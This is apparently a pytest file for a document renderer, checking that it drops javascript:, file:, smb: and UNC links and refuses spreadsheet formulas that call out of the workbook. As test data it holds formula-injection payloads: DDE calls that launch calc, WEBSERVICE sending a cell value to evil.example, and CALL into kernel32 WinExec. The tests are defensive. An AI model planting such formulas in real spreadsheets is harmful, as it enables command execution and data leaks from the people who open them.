# test_links_formulas.py — the link and formula policy (render/core/policy.h):
# javascript:, file:, smb: and UNC targets never become links in any format
# (their text stays, with a located warning); formulas that call out of the
# workbook are refused with a located error unless --allow-external-formulas.
import json
import re
import subprocess
import zipfile

import pytest

from conftest import run_folio

BAD = ["javascript:alert(1)", "file:///etc/passwd", "\\\\host\\share", "smb://host/share",
       "JavaScript:alert(2)", " javascript:alert(3)"]
GOOD = "https://example.com/ok"


def link_spec():
    rows = [[f"r{i}", {"url": u, "text": f"cell{i}"}] for i, u in enumerate(BAD + [GOOD])]
    para = " ".join(f"[p{i}]({u})" for i, u in enumerate(BAD[:4])) + f" [good]({GOOD})"
    return {"folio": 1, "data": {"d": {"columns": ["name", "link"], "rows": rows}},
            "blocks": [{"type": "paragraph", "text": para}, {"type": "table", "data": "d"}]}


def render_all(tmp_path, spec, *opts, check=0):
    path = tmp_path / "s.json"
    path.write_text(json.dumps(spec, indent=1))
    outs = {e: tmp_path / f"o.{e}" for e in ("docx", "pdf", "pptx", "xlsx")}
    p = run_folio("render", path, *sum((["-o", o] for o in outs.values()), []), *opts, check=check)
    return p, outs


def zip_text(path):
    with zipfile.ZipFile(path) as z:
        return "\n".join(z.read(n).decode("utf-8", "replace") for n in z.namelist()
                         if n.endswith(".xml") or n.endswith(".rels"))


def pdf_uris(path):
    out = subprocess.run(["qpdf", "--qdf", "--object-streams=disable", path, "-"],
                         check=True, capture_output=True).stdout
    return out


def test_refused_links_are_dropped_everywhere_and_warned(tmp_path):
    docx = pytest.importorskip("docx")
    p, outs = render_all(tmp_path, link_spec())
    warns = [l for l in p.stderr.splitlines() if "warning: link to" in l]
    # six cells + four paragraph links, each located at its pointer; a link
    # refused at several places is one warning that counts and lists them
    times = [re.search(r"; (\d+) times in all, also at", w) for w in warns]
    assert sum(int(t.group(1)) if t else 1 for t in times) == 10
    assert any("also at /blocks/0/text" in w for w in warns)
    assert any("/data/d/rows/0/1/url" in w and '"javascript:alert(1)"' in w for w in warns)
    assert any("/blocks/0/text" in w and '"smb://host/share"' in w for w in warns)
    for fmt in ("docx", "pptx", "xlsx"):
        text = zip_text(outs[fmt])
        for bad in ("javascript:", "JavaScript:", "file:", "smb:", "host\\share", "host%5Cshare"):
            assert bad not in text, (fmt, bad)
        if fmt != "pptx":  # pptx shows tables as text, links only in paragraphs
            assert GOOD in text, fmt
    raw = pdf_uris(outs["pdf"])
    for bad in (b"javascript:", b"file:", b"smb:", b"share"):
        assert bad not in raw.replace(b"p1", b""), bad
    assert GOOD.encode() in raw
    # the text of refused links stays
    d = docx.Document(outs["docx"])
    body = "\n".join(par.text for par in d.paragraphs)
    assert "p0" in body and "p3" in body
    cells = [c.text for t in d.tables for row in t.rows for c in row.cells]
    assert "cell0" in cells and "cell3" in cells
    text = subprocess.run(["pdftotext", outs["pdf"], "-"], check=True, capture_output=True, text=True).stdout
    assert "p0" in text and "cell1" in text


def test_xlsx_cells_keep_text_without_hyperlink(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    _, outs = render_all(tmp_path, link_spec())
    wb = openpyxl.load_workbook(outs["xlsx"])
    ws = wb["d"]
    summary = [c.value for row in wb["Summary"].iter_rows() for c in row if c.value]
    assert summary[:2] == ["p0 p1 p2 p3 good", "\u2197 good"]
    links = {ws.cell(r, 2).value: ws.cell(r, 2).hyperlink for r in range(2, ws.max_row + 1)}
    assert links[f"cell{len(BAD)}"].target == GOOD
    for i in range(len(BAD)):
        assert links[f"cell{i}"] is None


def test_allow_link_scheme_adds_a_scheme(tmp_path):
    spec = {"folio": 1, "blocks": [{"type": "paragraph", "text": "[f](ftp://files.example/a) [t](tel:+15551234)"}]}
    p, outs = render_all(tmp_path, spec, "--allow-link-scheme", "ftp,tel")
    assert "warning" not in p.stderr
    text = zip_text(outs["docx"])
    assert "ftp://files.example/a" in text and "tel:+15551234" in text
    p, outs = render_all(tmp_path, spec)
    assert p.stderr.count("warning: link to") == 2
    assert "ftp://" not in zip_text(outs["docx"])
    run_folio("render", tmp_path / "s.json", "-o", tmp_path / "x.pdf", "--allow-link-scheme", "java script", check=1)


def test_overlong_url_is_dropped_not_fatal(tmp_path):
    url = "https://example.com/" + "a" * 65536
    spec = {"folio": 1, "blocks": [{"type": "paragraph", "text": f"[long]({url}) end"}]}
    p, outs = render_all(tmp_path, spec)
    assert "longer than 2,048 bytes" in p.stderr and "/blocks/0/text" in p.stderr
    subprocess.run(["qpdf", "--check", outs["pdf"]], check=True, capture_output=True)
    assert "long" in subprocess.run(["pdftotext", outs["pdf"], "-"], capture_output=True, text=True).stdout
    assert "aaaaaaaa" not in zip_text(outs["docx"])


FORMULAS = {
    "dde": "=cmd|' /C calc'!A0",
    "dde_fn": "=DDE(\"cmd\",\"/C calc\",\"A0\")",
    "ddeauto": "=DDEAUTO(\"x\",\"y\")",
    "webservice": "=WEBSERVICE(\"http://evil.example/?\"&A1)",
    "xlfn": "=_xlfn.WEBSERVICE(\"http://evil.example\")",
    "filterxml": "=FILTERXML(\"<a/>\",\"//a\")",
    "external": "=SUM([1]Sheet1!A1:A3)",
    "external_name": "='C:\\secret\\[book.xlsx]Sheet1'!A1",
    "hyperlink": "=HYPERLINK(\"file:///etc/passwd\",\"open\")",
    "hyperlink_js": "=HYPERLINK(\"javascript:alert(1)\")",
    "call": "=CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
    "register": "=REGISTER.ID(\"kernel32\",\"WinExec\")",
    "image": "=IMAGE(\"https://evil.example/pixel.png\")",
}


@pytest.mark.parametrize("name", sorted(FORMULAS))
def test_external_formulas_are_refused_at_their_cell(tmp_path, name):
    openpyxl = pytest.importorskip("openpyxl")
    formula = FORMULAS[name]
    spec = {"folio": 1, "data": {"d": {"columns": ["a", "f"],
                                       "rows": [[1, {"formula": "=A2*2", "value": 2}],
                                                [2, {"formula": formula, "value": 0}]]}},
            "blocks": [{"type": "table", "data": "d"}]}
    path = tmp_path / "s.json"
    path.write_text(json.dumps(spec, indent=1))
    p = run_folio("validate", path, "--json", check=2)
    (e,) = json.loads(p.stdout)
    assert e["pointer"] == "/data/d/rows/1/1/formula" and e["line"] > 0
    assert "--allow-external-formulas" in e["hint"]
    run_folio("render", path, "-o", tmp_path / "o.xlsx", check=2)
    assert not (tmp_path / "o.xlsx").exists()
    run_folio("render", path, "-o", tmp_path / "o.xlsx", "--allow-external-formulas", check=0)
    ws = openpyxl.load_workbook(tmp_path / "o.xlsx").worksheets[-1]
    formulas = [ws.cell(r, 2).value for r in range(2, 4)]
    assert formulas[0] == "=A2*2" and formulas[1].replace("_xlfn.", "") == formula.replace("_xlfn.", "")


@pytest.mark.parametrize("formula", ["=SUM(B2:B9)", "=Sales[Revenue]*2", "=SUM(Table1[[#Data],[x]])",
                                     "=IF(A1=\"a|b\",1,0)", "=HYPERLINK(\"https://example.com\",\"x\")",
                                     "='My Sheet'!A1+1", "=CONCAT(\"DDE(\",\"x\")"])
def test_ordinary_formulas_pass(spec_file, formula):
    spec = {"folio": 1, "data": {"d": {"columns": ["f"], "rows": [[{"formula": formula, "value": 1}]]}},
            "blocks": [{"type": "table", "data": "d"}]}
    run_folio("validate", spec_file(spec), check=0)


def test_text_that_looks_like_a_formula_stays_text(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    vals = ["=cmd|' /C calc'!A0", "+SUM(1)", "-2+3", "@WEBSERVICE(\"x\")"]
    spec = {"folio": 1, "data": {"d": {"columns": [{"name": "t", "type": "text"}], "rows": [[v] for v in vals]}},
            "blocks": [{"type": "table", "data": "d"}]}
    path = tmp_path / "s.json"
    path.write_text(json.dumps(spec))
    run_folio("render", path, "-o", tmp_path / "o.xlsx", check=0)
    ws = openpyxl.load_workbook(tmp_path / "o.xlsx").worksheets[-1]
    cells = [ws.cell(r, 1) for r in range(2, 6)]
    assert [c.value for c in cells] == vals and all(c.data_type == "s" for c in cells)
